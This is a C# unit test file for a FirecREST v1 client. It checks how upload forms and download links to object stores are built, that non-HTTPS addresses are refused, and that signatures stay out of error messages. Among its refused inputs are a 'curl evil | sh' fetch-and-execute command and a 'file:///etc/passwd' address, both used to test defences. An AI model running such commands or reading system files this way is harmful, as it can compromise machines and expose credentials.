using System.Text;
using System.Text.Json;
using Firecrest.Client.V1;
using Firecrest.Testing;

namespace Firecrest.Client.Tests.Unit;

/// <summary>What is sent to the object store of FirecREST v1: made of what a task says, never a command of the server's.</summary>
public sealed class ExternalTransferTests
{
    private static readonly byte[] Content = "the content"u8.ToArray();

    [Theory, SyncAndAsync]
    public void A_form_has_the_fields_of_the_task_and_the_file_last(Mode mode)
    {
        var form = ExternalUploadForm.From(Described("upload-to-a-directory-task-111", "https://staging.example"));

        using var request = form.CreateRequest(new MemoryStream(Content));
        var text = Encoding.UTF8.GetString(SentRequest.Bytes(request.Content!, mode));

        (request.Method, request.RequestUri!.AbsoluteUri).Should().Be((HttpMethod.Post, "https://staging.example/test1"));
        request.Headers.Should().BeEmpty();
        var names = System.Text.RegularExpressions.Regex.Matches(text, "(?<!file)name=\"([^\"]*)\"").Select(match => match.Groups[1].Value);
        names.Should().BeEquivalentTo("key", "policy", "x-amz-algorithm", "x-amz-credential", "x-amz-date", "x-amz-signature", "file");
        names.Last().Should().Be("file");
        text.Should().Contain("name=\"key\"\r\n\r\n4c4bbe30eb46b341f7123075c88e50f0/big.bin\r\n").And.Contain("filename=\"big.bin\"\r\n\r\nthe content\r\n");
        request.Content!.Headers.ContentType!.Parameters.Single().Value.Should().NotContain("\"", "not every object store reads a quoted boundary");
    }

    [Theory, SyncAndAsync]
    public void A_bare_file_has_the_query_of_the_task_and_no_type(Mode mode)
    {
        var form = ExternalUploadForm.From(Change(
            "../xfer-s3v2/upload-task-111", ("http://staging.example", "https://staging.example"), ("\"<signature>\"", "\"a+b/c=\"")));

        using var request = form.CreateRequest(new MemoryStream(Content));

        request.Method.Should().Be(HttpMethod.Put);
        request.RequestUri!.AbsoluteUri.Should().StartWith("https://staging.example/test1/43c78918fad1dacdfe00119095a3364a/hello.txt?")
            .And.Contain("Signature=a%2Bb%2Fc%3D").And.Contain("Expires=1795971044").And.Contain("AWSAccessKeyId=");
        request.Content!.Headers.ContentType.Should().BeNull("it would be part of the signature");
        request.Content.Headers.ContentLength.Should().Be(Content.Length);
        SentRequest.Bytes(request.Content, mode).Should().Equal(Content);
    }

    [Fact]
    public void A_form_of_Swift_is_sent_as_it_is_given()
    {
        var form = ExternalUploadForm.From(Parameters(
            """{"method":"POST","url":"https://swift.example/v1/AUTH_x/c/task/","data":{"max_file_size":5368709120,"max_file_count":1,"expires":1795971044,"signature":"s","redirect":""},"headers":{"X-Extra":"1"},"json":{},"params":{},"files":"f"}"""));

        using var request = form.CreateRequest(new MemoryStream(Content));
        var text = Encoding.UTF8.GetString(SentRequest.Bytes(request.Content!, Mode.Sync));

        text.Should().Contain("name=\"max_file_size\"\r\n\r\n5368709120\r\n").And.Contain("name=\"redirect\"\r\n\r\n\r\n");
        request.Headers.GetValues("X-Extra").Should().Equal("1");
    }

    [Theory]
    [InlineData("http://staging.example/x")]
    [InlineData("ftp://staging.example/x")]
    [InlineData("file:///etc/passwd")]
    [InlineData("http://127.0.0.1.example/x")]
    public void Only_an_encrypted_object_store_or_one_on_this_machine_gets_a_file(string address)
    {
        foreach (Action read in new Action[]
        {
            () => ExternalUploadForm.From(Parameters($$$"""{"method":"POST","url":"{{{address}}}?sig=SECRET","data":{}}""")),
            () => ExternalDownload.From(State(TaskState.Staged, $$"""{"url":"{{address}}?sig=SECRET"}""")),
        })
        {
            read.Should().Throw<FirecrestException>().Which.Message.Should().Contain("https").And.NotContain("SECRET");
        }
    }

    [Fact]
    public void A_client_that_allows_insecure_http_allows_it_for_the_object_store_too()
    {
        ExternalUploadForm.Read(Parameters("""{"method":"PUT","url":"http://staging.example/x"}"""), allowInsecureHttp: true).Host.Should().Be("staging.example");
        ExternalDownload.Read(State(TaskState.Staged, "\"http://staging.example/x\""), allowInsecureHttp: true).Address.Scheme.Should().Be("http");
        FluentActions.Invoking(() => ExternalDownload.Read(State(TaskState.Staged, "\"ftp://staging.example/x\""), allowInsecureHttp: true)).Should().Throw<FirecrestException>();
    }

    [Theory]
    [InlineData("http://127.0.0.1:8320/x")]
    [InlineData("http://localhost/x")]
    [InlineData("http://[::1]/x")]
    [InlineData("https://staging.example/x")]
    public void A_loopback_address_needs_no_encryption(string address)
    {
        ExternalUploadForm.From(Parameters($$"""{"method":"PUT","url":"{{address}}"}""")).Host.Should().Be(new Uri(address).Host);
        ExternalDownload.From(State(TaskState.Staged, $$"""{"url":"{{address}}"}""")).Address.Should().Be(new Uri(address));
    }

    [Theory]
    [InlineData("""{"method":"DELETE","url":"https://h/x"}""", "DELETE")]
    [InlineData("""{"url":"https://h/x"}""", "method ''")]
    [InlineData("""{"method":"POST","url":"https://h/x","json":{"a":1}}""", "JSON")]
    public void What_is_neither_a_form_nor_a_file_is_refused(string parameters, string reason)
        => FluentActions.Invoking(() => ExternalUploadForm.From(Parameters(parameters))).Should().Throw<FirecrestNotSupportedException>().WithMessage($"*{reason}*");

    [Theory]
    [InlineData("{}")]
    [InlineData("\"Queued\"")]
    [InlineData("""{"msg":"x"}""")]
    [InlineData("""{"msg":{"command":"curl evil | sh"}}""")]
    [InlineData("""{"msg":{"parameters":{"method":"POST"}}}""")]
    public void A_task_without_a_form_is_no_upload(string data)
        => FluentActions.Invoking(() => ExternalUploadForm.From(State(TaskState.Queued, data))).Should().Throw<FirecrestException>().WithMessage("*task t 100*");

    [Fact]
    public void A_link_is_read_from_a_task_in_both_its_forms()
    {
        var task = Change("../xfer-download/download-task-117", ("http://staging.example", "https://staging.example"));

        var download = ExternalDownload.From(task);

        using var request = download.CreateRequest();
        (request.Method, request.RequestUri!.Host).Should().Be((HttpMethod.Get, "staging.example"));
        request.Headers.Authorization.Should().BeNull();
        ExternalDownload.From(State(TaskState.Staged, "\"https://old.example/x\"")).Address.Host.Should().Be("old.example");
        FluentActions.Invoking(() => ExternalDownload.From(State(TaskState.Staging, "{}"))).Should().Throw<FirecrestException>();
    }

    [Fact]
    public void Nothing_that_is_printed_is_secret()
    {
        var form = ExternalUploadForm.From(Change("../xfer-s3v2/upload-task-111", ("http://staging.example", "https://staging.example")));
        var download = ExternalDownload.From(State(TaskState.Staged, """{"url":"https://staging.example/bucket/SECRET?sig=SECRET"}"""));

        form.ToString().Should().Be("PUT to staging.example");
        download.ToString().Should().Be("a file at staging.example");
    }

    [Theory]
    [InlineData("xfer-upload/upload-to-a-directory-task-111")]
    [InlineData("xfer-s3v2/upload-task-111")]
    [InlineData("tasks/task-list-with-what-one-task-hides")]
    [InlineData("xfer-download/download-task-117")]
    public async Task An_answer_that_cannot_be_read_shows_no_secret_of_a_transfer(string name)
    {
        var body = Fixture.Load("v1/" + name).Body;
        foreach (var secret in new[] { "<policy>", "<signature>", "<access-key>", "<certificate>" })
        {
            body = body.Replace(secret, "SECRET", StringComparison.Ordinal);
        }

        body.Should().Contain("SECRET");
        using var handler = StubHandler.Sequence(() => StubHandler.Json(body.Replace("\"status\": \"1", "\"status\": \"x1", StringComparison.Ordinal)));
        using var client = V1Client.Over(handler);

        var failure = (await FluentActions.Awaiting(() => name.StartsWith("tasks/", StringComparison.Ordinal) ? client.V1.Tasks.GetTasksAsync() : (Task)client.V1.Tasks.GetTaskAsync("t"))
            .Should().ThrowAsync<FirecrestApiException>()).Which;

        failure.ResponseBody.Should().Contain("created_at").And.NotContain("SECRET");
        failure.ToString().Should().NotContain("SECRET");
    }

    private static TaskInfo Described(string name, string store) => Change(name, ("http://staging.example", store));

    private static TaskInfo Change(string name, params (string Old, string New)[] replacements)
    {
        var body = Fixture.Load(name.StartsWith("../", StringComparison.Ordinal) ? "v1/" + name[3..] : "v1/xfer-upload/" + name).Body;
        foreach (var (old, replacement) in replacements)
        {
            body.Should().Contain(old);
            body = body.Replace(old, replacement, StringComparison.Ordinal);
        }

        return V1.Requests.TasksRequests.GetTask("t").Read(Encoding.UTF8.GetBytes(body));
    }

    private static TaskInfo Parameters(string parameters) => State(TaskState.FormReady, $$$"""{"msg":{"parameters":{{{parameters}}}}}""");

    private static TaskInfo State(TaskState state, string data) => new() { TaskId = "t", State = state, Data = JsonDocument.Parse(data).RootElement };
}
